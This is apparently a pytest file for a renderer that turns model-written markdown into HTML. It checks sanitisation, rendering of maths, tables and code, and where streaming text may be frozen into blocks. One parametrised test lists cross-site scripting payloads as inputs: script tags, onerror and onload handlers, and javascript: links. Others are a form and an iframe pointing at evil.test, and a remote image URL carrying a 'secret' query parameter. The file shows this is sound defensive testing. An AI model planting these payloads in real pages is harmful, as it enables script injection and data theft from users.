"""Model text to HTML: what must render, what must never run, and where a growing text may be cut."""

from __future__ import annotations

import re

import pytest

from ui.blocks import finished_length
from ui.growing import LiveMarkdown
from ui.markdown import to_html

DOCUMENT = r"""# Title

A paragraph with **bold**, `code` and $x < y$ maths.

1. one

   more of one
2. two

- a
- b

```python
def f():

    return 1
```

| a | b |
|---|---|
| 1 | 2 |

$$
\int_0^1 x\,dx

= \frac12
$$

\[
a

b
\]

Đây là một đoạn tiếng Việt. 这是中文。

> quote

The end."""


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<a href='javascript:1'>x</a>",
        r"$\text{<img src=x onerror=alert(1)>}$", r"$\href{javascript:alert(1)}{x}$", r"$\text{</math><script>alert(1)</script>}$",
        r"$$\style{position:fixed;inset:0}{x}$$", "<div style='position:fixed;inset:0'>x</div>", "<form action=//evil.test><input></form>",
        '```"onmouseover=alert(1)\nx\n```', "<svg/onload=alert(1)>", "<iframe src=//evil.test></iframe>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<style>*{display:none}</style>", "| <img src=x onerror=1> |\n|---|\n| <b onclick=1>x |",
    ],
)  # fmt: skip
def test_nothing_of_a_models_html_becomes_an_element(text):
    out = to_html(text)
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", out))
    assert not tags & {"script", "img", "details", "iframe", "form", "input", "svg", "style", "link", "object", "embed", "b"}
    inside = " ".join(re.findall(r"<[^>]*>", out))
    assert not re.search(r"\son\w+\s*=|javascript:|\sstyle\s*=|\shref\s*=\s*['\"]data:text", inside)


def test_a_remote_image_becomes_a_link_that_nothing_follows_by_itself():
    out = to_html("![cat](https://evil.test/p.png?q=secret)")
    assert "<img" not in out and "<a href='https://evil.test/p.png?q=secret'" in out and ">cat</a>" in out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a **b** _c_", "<strong>b</strong>"), ("| a |\n|---|\n| 1 |", "<table>"), ("```python\nx = 1\n```", "<span"),
        ("if a<b and c>d", "if a&lt;b and c&gt;d"), ("see https://example.org now", 'href="https://example.org"'),
        (r"\(a^2\)", "<math"), (r"\[a^2\]", 'display="block"'), ("$$a^2$$", 'display="block"'), ("so $a<b$ holds", "&lt;"),
        ("costs $5 and $10", "costs $5 and $10"), (r"\begin{align}a&=b\end{align}", "<mtable"), ("~~no~~", "<s>no</s>"),
        ("tiếng Việt 中文 🙂", "tiếng Việt 中文 🙂"),
    ],
)  # fmt: skip
def test_what_models_write_is_rendered(text, expected):
    assert expected in to_html(text)


def test_only_whole_addresses_become_links():
    shown = to_html("See main.py, setup.sh and me@example.com, or https://example.com/a.")
    assert shown.count("<a ") == 1 and 'href="https://example.com/a"' in shown and "main.py, setup.sh" in shown


def test_maths_that_cannot_be_read_is_shown_as_it_was_written():
    assert r"\begin{broken" in to_html(r"$\begin{broken x$")


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50])
def test_frozen_blocks_never_change_and_nothing_is_lost(step):
    live, seen = LiveMarkdown(), []
    for end in range(1, len(DOCUMENT) + step, step):
        live.update(DOCUMENT[:end])
        assert live.blocks[: len(seen)] == seen
        seen = list(live.blocks)
    joined = re.sub(r"\s+", "", "".join(live.blocks) + to_html(live.tail))
    assert joined == re.sub(r"\s+", "", to_html(DOCUMENT))


def test_blocks_freeze_soon_and_each_text_is_cut_at_blank_lines_only():
    border = finished_length(DOCUMENT)
    assert 0 < border < len(DOCUMENT) and DOCUMENT[:border].endswith("\n")
    assert len(DOCUMENT) - border < 20


@pytest.mark.parametrize(
    "text", ["```\na\n\nb", "$$\na\n\nb", "\\[\na\n\nb", "- a\n\n- b", "- a\n\n  b", "1. a\n\n2", "just a line", "a\n\n"]
)
def test_what_may_still_grow_is_not_frozen(text):
    assert finished_length(text) == 0


def test_a_long_block_keeps_the_frozen_part_small_and_linear():
    live = LiveMarkdown()
    text = "\n\n".join(f"Paragraph {i} with some words in it." for i in range(2000))
    for end in range(0, len(text), 997):
        live.update(text[:end])
        assert len(live.tail) < 1200
